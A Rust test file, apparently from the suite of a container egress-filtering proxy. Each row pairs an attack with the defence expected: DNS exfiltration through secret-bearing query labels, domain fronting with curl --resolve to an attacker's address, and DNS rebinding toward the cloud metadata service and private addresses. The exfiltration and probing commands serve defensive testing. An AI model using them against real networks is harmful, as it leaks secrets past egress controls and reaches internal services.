//! Names: the way out for those who have no address to talk to, and the disguise for those who
//! have.

use std::net::SocketAddr;

use test_support::hosts::{ALLOWED, RESOLVER};

use crate::pairing::Family;
use crate::row::{Counts, ROW, Row, Trace};
use crate::scene::Scene;

pub(crate) const ROWS: &[Row] = &[
    Row {
        name: "data_in_labels_of_denied_names",
        attack: "questions whose labels are the secret, over UDP and TCP, to the host's resolver and to the attacker's",
        defence: "a denied name is answered here, and nobody is asked; the server that the container chose is never asked",
        script: |scene| {
            let secret = &scene.secret;
            let servers =
                [scene.target(), resolver(scene)].map(|server| SocketAddr::new(server, 53));
            let names = ["denied.test", "attacker.test", "allowed.test", "test"];
            let asks = servers.iter().flat_map(|server| {
                names.iter().flat_map(move |name| {
                    ["udp", "tcp"].map(|how| format!("attacker dns {how} {server} {secret}.{name}"))
                })
            });
            asks.collect::<Vec<_>>().join("; ")
        },
        recorded: Some(Trace::Secret),
        ..ROW
    },
    Row {
        name: "an_allowed_names_servers_chosen_by_the_container",
        attack: "an allowed wildcard's name with the secret in its labels, asked of the attacker's server",
        defence: "the proxy asks the host's resolvers only, wherever the question was sent",
        script: |scene| {
            let server = SocketAddr::new(scene.target(), 53);
            ["udp", "tcp"]
                .map(|how| format!("attacker dns {how} {server} {}.wild.test", scene.secret))
                .join("; ")
        },
        counts: Counts::AtTheAttackers,
        ..ROW
    },
    Row {
        name: "an_allowed_name_for_the_attackers_address",
        attack: "HTTP and HTTPS to the attacker's address with an allowed name in Host and SNI (fronting)",
        defence: "the proxy resolves the name itself and dials what it found, never what the client chose",
        script: |scene| {
            let (address, secret) = (literal(scene), &scene.secret);
            format!(
                "curl -g -sS -m 5 --resolve allowed.test:80:{address} http://allowed.test/{secret}
                 curl -g -ksS -m 5 --resolve allowed.test:443:{address} https://allowed.test/{secret}"
            )
        },
        counts: Counts::AtTheAttackers,
        ..ROW
    },
    Row {
        name: "a_denied_name_for_an_allowed_address",
        attack: "HTTP and HTTPS to an allowed host's address with a denied name in Host and SNI, and without a name",
        defence: "the name that the client says decides; an address that no rule opens is not dialled",
        script: |scene| {
            let secret = &scene.secret;
            let allowed = match scene.circumstances.family {
                Family::V4 => ALLOWED.v4.to_string(),
                Family::V6 => format!("[{}]", ALLOWED.v6),
            };
            let denied = format!("{secret}.denied.test");
            format!(
                "curl -g -sS -m 5 --resolve {denied}:80:{allowed} http://{denied}/{secret}
                 curl -g -ksS -m 5 --resolve {denied}:443:{allowed} https://{denied}/{secret}
                 curl -g -sS -m 5 http://{}/{secret}; curl -g -ksS -m 5 https://{}/{secret}; :",
                literal(scene),
                literal(scene)
            )
        },
        recorded: Some(Trace::Secret),
        ..ROW
    },
    Row {
        name: "allowed_names_that_point_inside",
        attack: "an allowed name whose address is the metadata service's, loopback or a private one (DNS rebinding)",
        defence: "special ranges are never dialled, whatever name led there",
        script: |scene| {
            let names = ["metadata", "loopback", "private"];
            let tries = names
                .map(|name| format!("curl -sS -m 2 http://{name}.rebind.test/{}", scene.secret));
            // Without the filter nobody answers there; datagrams show that the addresses are
            // reached for.
            format!(
                "{}; for address in 169.254.169.254 10.1.2.3; do attacker send udp $address:80 {}; done",
                tries.join("; "),
                scene.secret
            )
        },
        ..ROW
    },
];

fn resolver(scene: &Scene<'_>) -> std::net::IpAddr {
    match scene.circumstances.family {
        Family::V4 => RESOLVER.v4.into(),
        Family::V6 => RESOLVER.v6.into(),
    }
}

/// The attacker's address as URLs have it.
fn literal(scene: &Scene<'_>) -> String {
    match scene.circumstances.family {
        Family::V4 => scene.target().to_string(),
        Family::V6 => format!("[{}]", scene.target()),
    }
}
